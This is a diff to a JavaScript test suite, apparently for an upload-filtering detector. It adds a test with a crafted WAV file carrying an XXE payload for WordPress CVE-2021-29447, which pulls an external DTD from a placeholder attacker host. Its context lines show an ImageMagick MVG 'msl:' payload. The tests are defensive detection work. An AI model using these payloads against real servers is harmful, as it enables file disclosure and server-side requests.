@@ -55,6 +55,16 @@ describe("HL7 v2 messages", () => {
 });
 
 describe("uploads a converter or a player acts on", () => {
+  it("reads an audio file's XML chunk that declares entities (WordPress's iXML XXE, CVE-2021-29447)", () => {
+    const wav =
+      "RIFF\u00b8\u0000\u0000\u0000WAVEiXML{\u0000\u0000\u0000<?xml version=\"1.0\"?><!DOCTYPE ANY[<!ENTITY % remote SYSTEM 'http://203.0.113.88:8001/evil.dtd'>%remote;%init;]>";
+    expect(upload("bell.wav", "audio/wav", wav).some((m) => m.startsWith("941180") || m.startsWith("941181"))).toBe(
+      true,
+    );
+    // A WAV without a declaration is a file's bytes.
+    expect(upload("bell.wav", "audio/wav", "RIFF\u00b8\u0000\u0000\u0000WAVEfmt \u0010\u0000data")).toEqual([]);
+  });
+
   it("reads MVG whatever the file's name and type, and the coders that run or read", () => {
     const mvg =
       "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'msl:/tmp/php8Fa2Qx'\npop graphic-context";
